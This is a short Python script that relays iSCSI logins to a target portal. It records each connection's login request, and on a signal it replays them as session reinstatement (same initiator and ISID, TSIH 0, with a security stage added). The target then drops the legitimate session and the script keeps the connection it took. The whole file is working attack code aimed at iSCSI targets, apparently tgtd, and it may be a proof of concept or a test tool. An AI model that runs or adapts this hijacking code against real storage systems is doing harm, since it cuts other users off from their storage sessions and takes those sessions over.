#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Takes iSCSI sessions away from who has them.

reinstate.py PORT: a relay to the target's portal on 127.0.0.1; prints its own port. It keeps the first
login request of each connection, and on SIGUSR1 makes each of them again, in connections of its own: the
same initiator and ISID with TSIH 0 are session reinstatement (RFC 7143, 6.3.5), for which the target
ends the old session. Prints how many it has taken so far.
"""
import signal
import socket
import sys
import threading

HEADER, OPCODE, LOGIN, TO_OPERATIONAL, ACCEPTED = 48, 0x3f, 0x03, 0x81, b"\0\0"
WHO = (b"InitiatorName=", b"TargetName=", b"SessionType=")
portal = ("127.0.0.1", int(sys.argv[1]))
logins, taken = [], []


def receive(s, length):
    data = b""
    while len(data) < length:
        more = s.recv(length - len(data))
        if not more:
            raise ConnectionError
        data += more
    return data


def message(s):
    header = receive(s, HEADER)
    length = header[4] * 4 + (int.from_bytes(header[5:8], "big") + 3) // 4 * 4
    return header + receive(s, length)


def by_security(login):
    """Requests that do the same with a security stage first: tgtd looks for old sessions only there."""
    keys = [key for key in login[HEADER:].split(b"\0") if key.startswith(WHO)]
    data = b"\0".join([*keys, b"AuthMethod=None", b""])
    header = bytearray(login[:HEADER])
    header[1], header[5:8] = TO_OPERATIONAL, len(data).to_bytes(3, "big")
    return [bytes(header) + data + bytes(-len(data) % 4), login]


def pump(source, to):
    try:
        while data := source.recv(1 << 18):
            to.sendall(data)
    except OSError:
        pass
    for s in source, to:
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def relay(client):
    try:
        server = socket.create_connection(portal)
        first = message(client)
        if first[0] & OPCODE == LOGIN:
            logins.append(first)
        server.sendall(first)
    except OSError:
        client.close()
        return
    threading.Thread(target=pump, args=(server, client), daemon=True).start()
    pump(client, server)


def take(*_):
    mine = list(logins)
    logins.clear()
    for login in mine:
        s = socket.create_connection(portal)
        for request in by_security(login):
            s.sendall(request)
            answer = message(s)
        if answer[36:38] == ACCEPTED:
            taken.append(s)  # it stays: who lost the session has to make one of its own
    print(len(taken), flush=True)


signal.signal(signal.SIGUSR1, take)
listener = socket.create_server(("127.0.0.1", 0))
print(listener.getsockname()[1], flush=True)
while True:
    threading.Thread(target=relay, args=(listener.accept()[0],), daemon=True).start()
